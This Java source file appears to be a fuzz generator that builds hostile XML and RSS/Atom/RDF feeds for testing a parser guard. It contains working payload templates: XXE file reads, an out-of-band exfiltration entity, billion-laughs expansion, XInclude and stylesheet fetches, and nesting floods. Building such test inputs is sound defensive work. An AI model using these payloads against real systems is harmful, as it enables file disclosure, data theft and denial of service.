package org.rapporteur.guard;

import java.util.List;
import java.util.Random;

/** XML that wants to read files, open connections or fill the memory, in feeds of every kind and by itself. */
public final class HostileXml {
    /** What such a document is made of: before the root, inside it. {@code %t} is a target, {@code %n} a name. */
    private record Attack(String prolog, String inside) {}

    private static final List<Attack> ATTACKS = List.of(
            new Attack("<!DOCTYPE r [<!ENTITY %n SYSTEM '%t'>]>", "&%n;"),
            new Attack("<!DOCTYPE r [<!ENTITY %n PUBLIC 'p' '%t'>]>", "&%n;"),
            new Attack("<!DOCTYPE r [<!ENTITY % %n SYSTEM '%t'> %%n;]>", "x"),
            new Attack(
                    "<!DOCTYPE r [<!ENTITY % f SYSTEM '%t'><!ENTITY % e \"<!ENTITY &#37; s SYSTEM '%t?x=%f;'>\"> %e;"
                            + " %s;]>",
                    "x"),
            new Attack("<!DOCTYPE r SYSTEM '%t'>", "&%n;"),
            new Attack("<!DOCTYPE r PUBLIC '-//W3C//DTD XHTML 1.0//EN' '%t'>", "&nbsp;"),
            new Attack("<!DOCTYPE r [<!ATTLIST r a CDATA '&%n;'><!ENTITY %n SYSTEM '%t'>]>", "x"),
            new Attack("<!DOCTYPE r [<!NOTATION n SYSTEM '%t'><!ENTITY %n SYSTEM '%t' NDATA n>]>", "<a b='%n'/>"),
            new Attack(
                    "<!DOCTYPE r [<!ENTITY a 'lol'><!ENTITY b '&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;'><!ENTITY c"
                            + " '&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;'><!ENTITY %n '&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;'>]>",
                    "&%n;"),
            new Attack("<!DOCTYPE r [<!ENTITY %n '&%n;'>]>", "&%n;"),
            new Attack("", "<xi:include xmlns:xi='http://www.w3.org/2001/XInclude' href='%t' parse='text'/>"),
            new Attack("<?xml-stylesheet type='text/xsl' href='%t'?>", "x"),
            new Attack("", "<a xmlns:xsi='http://www.w3.org/2001/XMLSchema-instance' xsi:schemaLocation='u %t'/>"),
            new Attack("", "<a>".repeat(5_000)),
            new Attack("", "<a " + "b='c' ".repeat(500) + "/>"),
            new Attack("<!-- " + "-".repeat(3_000), ""),
            new Attack("<!DOCTYPE r [" + "<!ENTITY %n 'x'>".repeat(2_000) + "]>", "&%n;"),
            new Attack("<!DOCTYPE r [<!ENTITY %n 'x", "&%n;"),
            new Attack("", "&#x0;&#xFFFF;&#x110000;"));

    private static final List<String> ROOTS = List.of(
            "<r>%i</r>",
            "<rss version='2.0'><channel><title>%i</title><item><title>T</title><link>http://news.example/a</link>"
                    + "<description>%i</description></item></channel></rss>",
            "<feed xmlns='http://www.w3.org/2005/Atom'><title>t</title><entry><title>%i</title><link"
                    + " href='http://news.example/a'/><content type='html'>%i</content></entry></feed>",
            "<rdf:RDF xmlns:rdf='http://www.w3.org/1999/02/22-rdf-syntax-ns#' xmlns='http://purl.org/rss/1.0/'><item>"
                    + "<title>%i</title></item></rdf:RDF>");

    private static final List<String> ENCODINGS =
            List.of("UTF-8", "UTF-16", "UTF-16LE", "ISO-8859-1", "US-ASCII", "IBM037");

    private final Random random;

    public HostileXml(Random random) {
        this.random = random;
    }

    /** @param targets what it shall be made to read, as addresses */
    public byte[] next(List<String> targets) {
        Attack attack = ATTACKS.get(random.nextInt(ATTACKS.size()));
        String root = ROOTS.get(random.nextInt(ROOTS.size()));
        String encoding = ENCODINGS.get(random.nextInt(ENCODINGS.size()));
        String declaration = random.nextInt(4) == 0
                ? ""
                : "<?xml version='1." + random.nextInt(2) + "' encoding='" + encoding + "'"
                        + (random.nextBoolean() ? " standalone='no'" : "") + "?>";
        String xml = (declaration + attack.prolog + root.replace("%i", attack.inside))
                .replace("%t", targets.get(random.nextInt(targets.size())))
                .replace("%n", "e" + random.nextInt(100));
        String cut = random.nextInt(8) == 0 ? xml.substring(0, random.nextInt(xml.length())) : xml;
        return cut.getBytes(java.nio.charset.Charset.forName(encoding));
    }
}
